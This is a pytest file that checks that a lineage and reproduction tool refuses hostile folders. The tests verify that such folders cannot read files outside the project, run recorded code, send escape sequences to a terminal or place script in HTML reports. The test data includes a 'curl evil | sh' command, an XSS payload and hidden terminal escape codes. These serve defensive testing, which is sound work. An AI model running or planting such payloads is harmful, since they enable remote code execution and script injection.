"""What a stranger's folder may not do: read, write or delete outside, run, obey a terminal, or end in a traceback.

Every folder of the corpus meets every command that could take it, in this process; a few go through a real command line. Remotes, lock
files and recipes stand in `test_hostile_remotes.py`.
"""

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from handmade import made_at, project_at
from hostile_folders import CORPUS, SECRET, lead
from hostile_lab import COMMIT, Folder, snapshot
from sweeps import nightly_after

from pedigree.configs.base.problems import UsageProblem
from pedigree.configs.base.project import Project
from pedigree.pipelines.cli.main import main
from pedigree.pipelines.ledger.cache import remove
from pedigree.pipelines.publish.report import write_report
from pedigree.pipelines.reproduce.reproduction import ReproductionRequest, read_subject, reproduce
from pedigree.pipelines.reproduce.trust import _reads, review

CODE = Path(__file__).parents[2]
HUGE = "shared-values-that-fill-the-memory"
"""Takes as long as many others together."""
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""What a terminal would obey."""
MISTYPED = "No such option|No such command|Missing argument|unexpected extra argument|omit --only"
"""A command of the corpus that ends so has met nothing hostile."""


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A folder of somebody's own, outside of every project."""
    folder = tmp_path / "canary"
    (folder / "deep").mkdir(parents=True)
    (folder / "diary.jsonl").write_text(f'{{"text": "{SECRET}"}}\n')
    (folder / "deep" / "key.pem").write_text(SECRET)
    return folder


class Said:
    """How a command ended."""

    def __init__(self, code: int, out: str, err: str) -> None:
        self.code, self.out, self.err = code, out, err


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project without artifacts."""
    project = project_at(tmp_path_factory.mktemp("hostile") / "project")
    (project.root / ".dvc" / "config").write_text(f"[core]\n    no_scm = true\n    site_cache_dir = {project.root}/.dvc/site\n")
    return project.root


@pytest.fixture
def pedigree(root: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]) -> Iterator[Callable[..., Said]]:
    """The command line in a project, in this process; an exception that is no clean message comes through."""
    monkeypatch.chdir(root)
    monkeypatch.setattr(sys, "stdin", open(os.devnull))
    capfd.readouterr()

    def call(*arguments: object) -> Said:
        monkeypatch.setattr(sys, "argv", ["pedigree", *map(str, arguments)])
        with pytest.raises(SystemExit) as ended:
            main()
        out, err = capfd.readouterr()
        return Said(int(ended.value.code or 0), out, err)

    yield call
    for left in ("exported", "page.html", ".pedigree"):
        remove(root / left)


# --- what must hold ----------------------------------------------------------------------------------------------------


def clean(said: Said, canary: Path, root: Path) -> None:
    """A message, and nothing of somebody else's in it."""
    assert said.code in (0, 1, 2), said.err
    assert not re.search(MISTYPED, said.out + said.err), said.err
    assert "Traceback" not in said.err + said.out
    assert SECRET not in said.out + said.err, "something outside was read"
    assert not OBEYED.search(said.out + said.err), "a terminal would obey this"
    assert len(said.err) < 4000 and (said.code == 0 or said.out or said.err)
    for path in root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert SECRET.encode() not in path.read_bytes(), f"{path} holds what lies outside"


@pytest.mark.parametrize("name", [pytest.param(name, marks=pytest.mark.nightly) if name == HUGE else name for name in CORPUS])
def test_a_hostile_folder_does_no_harm(name: str, tmp_path: Path, canary: Path, root: Path, pedigree: Callable[..., Said]) -> None:
    folder = Folder()
    CORPUS[name](folder, canary)
    gift = folder.write(tmp_path / "gift")
    sound = Folder().write(tmp_path / "sound")
    outside, given = snapshot(canary), snapshot(gift)
    page = root / "page.html"
    said = {
        "verify": pedigree("verify", gift),
        "lineage": pedigree("lineage", gift),
        "lineage --json": pedigree("lineage", gift, "--json"),
        "lineage --html": pedigree("lineage", gift, "--html", page),
        "card": pedigree("lineage", gift, "--format", "card"),
        "slsa": pedigree("lineage", gift, "--format", "slsa"),
        "openlineage": pedigree("lineage", gift, "--format", "openlineage"),
        "croissant": pedigree("lineage", gift, "--format", "croissant"),
        "diff": pedigree("diff", sound, gift),
        "export": pedigree("export", gift, root / "exported"),
        "dry run": pedigree("reproduce", gift, "--here", "--dry-run", "--show-patch"),
        "reproduce --here": pedigree("reproduce", gift, "--here"),
        "reproduce --trust": pedigree("reproduce", gift, "--trust", "--stage", "raw"),
    }
    for one in said.values():
        clean(one, canary, root)
    assert said["verify"].code, said["verify"].out
    assert all(said[command].code for command in ("reproduce --here", "reproduce --trust"))
    assert snapshot(canary) == outside and snapshot(gift) == given
    assert not page.exists() or "<script" not in page.read_text()


def test_a_plain_reproduction_of_a_hostile_folder_does_no_harm(
    tmp_path: Path, canary: Path, root: Path, pedigree: Callable[..., Said]
) -> None:
    """Without `--here`, recorded code would run."""
    folder = Folder()
    CORPUS["source-file-above"](folder, canary)
    gift = folder.write(tmp_path / "gift")
    outside, given = snapshot(canary), snapshot(gift)
    said = pedigree("reproduce", gift)
    clean(said, canary, root)
    assert said.code and snapshot(canary) == outside and snapshot(gift) == given


def test_the_corpus_is_large_enough() -> None:
    assert len(CORPUS) >= 60


def test_a_sound_folder_is_taken_by_every_command(tmp_path: Path, canary: Path, pedigree: Callable[..., Said]) -> None:
    """Else the corpus would prove nothing."""
    gift = Folder().write(tmp_path / "gift")
    for command in (["verify", gift], ["lineage", gift], ["lineage", gift, "--format", "card"], ["reproduce", gift, "--dry-run"]):
        said = pedigree(*command)
        assert said.code == 0, said.err
    said = pedigree("reproduce", gift, "--trust", "--stage", "raw")
    assert said.code and f"commit {COMMIT} is not in this clone" in said.err, "it comes as far as the code"


def test_a_record_that_names_a_file_outside_deletes_nothing(tmp_path: Path, canary: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = project_at(tmp_path / "project")
    folder = lead(Folder(), str(canary / "diary.jsonl")).write(tmp_path / "gift")
    before = snapshot(canary)
    monkeypatch.chdir(project.root)
    with pytest.raises(Exception, match="source_files"):
        reproduce(project, ReproductionRequest(str(folder), here=True, trust=True))
    assert snapshot(canary) == before


@pytest.mark.parametrize(
    "name", nightly_after(1, ["source-file-above", "escapes-for-the-terminal", "git-option-for-a-commit", "pipe-for-a-run"])
)
def test_a_real_command_line_does_no_harm_either(name: str, tmp_path: Path, canary: Path, root: Path) -> None:
    folder = Folder()
    CORPUS[name](folder, canary)
    gift = folder.write(tmp_path / "gift")
    outside = snapshot(canary)
    for command in (["verify", str(gift)], ["reproduce", str(gift), "--here", "--trust"]):
        words = [sys.executable, "-P", "-m", "pedigree.pipelines.cli", *command]
        environment = os.environ | {"PYTHONPATH": str(CODE)}
        done = subprocess.run(words, cwd=root, env=environment, stdin=subprocess.DEVNULL, capture_output=True, text=True)
        assert done.returncode in (1, 2)
        clean(Said(done.returncode, done.stdout, done.stderr), canary, root)
    assert snapshot(canary) == outside
    remove(root / ".pedigree")


def test_a_stranger_s_model_is_shown_and_asked_about_once_and_a_no_runs_nothing(tmp_path: Path, root: Path) -> None:
    folder = Folder()
    patch = "diff --git a/stages/x.py b/stages/x.py\n--- a/stages/x.py\n+++ b/stages/x.py\n@@ -1 +1,2 @@\n a\n+\x1b[8mhidden\n"
    folder.run["attempts"][0]["code"] |= {"dirty": True, "patch_sha256": "0" * 64, "patch": patch}
    gift = folder.write(tmp_path / "gift")
    told: list[str] = []
    asked: list[bool] = []
    with pytest.raises(UsageProblem, match="nothing was run"):
        reproduce(Project(root), ReproductionRequest(str(gift)), told.append, lambda: bool(asked.append(True)))
    words = "\n".join(told)
    assert asked == [True] and f"code {COMMIT}" in words and "not in this clone" in words
    assert "stages/x.py +1 -0" in words and "lab/raw: prepare_data (device cpu, world_size 1)" in words
    with pytest.raises(UsageProblem, match="the session is not interactive"):
        reproduce(Project(root), ReproductionRequest(str(gift)), told.append)
    subject = read_subject(Project(root), str(gift))
    shown = review(list(subject.members.values()), here=False, show_patch=True)
    assert "| +\\u001b[8mhidden" in shown and not OBEYED.search(shown)
    assert not (root / ".pedigree").exists()


def test_a_stranger_s_reward_function_is_shown_with_where_it_runs() -> None:
    term = {"type": "program", "path": "rewards/mine.py", "function": "reward"}
    for trusted, where in ((False, "run in a sandbox"), (True, "run WITHOUT A SANDBOX, with your permissions")):
        (line,) = _reads({"reward": {"terms": [term | {"trusted": trusted}]}})
        assert line == f"the output of reward in rewards/mine.py, {where}"


def test_a_stranger_s_command_is_shown() -> None:
    (line,) = _reads({"command": ["sh", "-c", "curl evil | sh"], "files": [], "output": "policy"})
    assert line == "the output of the command `sh -c curl evil | sh`, run WITHOUT A SANDBOX, with your permissions"


def test_script_and_wrong_types_in_evidence_reach_no_page(tmp_path: Path) -> None:
    project, graph = made_at(tmp_path / "project")
    script = "</pre></script><script>alert(1)</script><img src=x onerror=alert(1)>"
    rows = [{"id": script, "task": script, "policy": "p", "messages": script, "text": script, "score": 1.0, "reason": script}]
    for name, evidence in {
        "chat_raw": {"counts.json": {"read": "many", "kept": [], "drops": 7}},
        "chat": {"report.json": {"benchmarks": {script: {"items": script}}}, "manifest.jsonl": [{"id": script, "score": "high"}]},
        "prompts_raw": {"counts.json": {"read": 1, "kept": script, "drops": {script: 1}, "sources": {script: script}}},
        "scores": {"samples.jsonl": rows},
        "sft": {"curve.csv": f"step,{script}\n1,2\n2,{script}\n"},
    }.items():
        for file, value in evidence.items():
            path = project.artifact(f"tiny/{name}") / "evidence" / file
            path.parent.mkdir(exist_ok=True)
            lines = value if isinstance(value, list) else [value]
            path.write_text(value if isinstance(value, str) else "\n".join(map(json.dumps, lines)))
    deep = project.artifact("tiny/prompts") / "evidence" / "report.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    page = write_report(project, graph).read_text()
    assert "<script" not in page and "<img" not in page and "&lt;script&gt;" in page
    assert "chat_raw: its metrics or evidence cannot be shown" in page and "its metrics or evidence cannot be shown" in page
    assert page.count("<title>") > 5, "the rest of the report is there"


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda folder: os.mkfifo(folder / "sub" / "p"), "shared/sub/p is not a plain file: an artifact holds plain files only"),
        (lambda folder: (folder / "sub" / "a\x1bb").touch(), r"shared/sub/a\u001bb has an invalid name"),
        (lambda folder: (folder / "sub" / "gone").symlink_to("x"), "shared/sub/gone is not a plain file: links are not followed"),
    ],
)
def test_verify_names_the_file_that_no_artifact_may_hold(tmp_path, pedigree, make, said):
    folder = Folder().write(tmp_path / "shared")
    (folder / "sub").mkdir()
    make(folder)
    found = pedigree("verify", folder)
    assert found.code == 1 and found.out.startswith(said) and "record.json" not in found.out
    (problem,) = json.loads(pedigree("verify", folder, "--json").out)["problems"]
    assert problem["file"].startswith("shared/sub/")
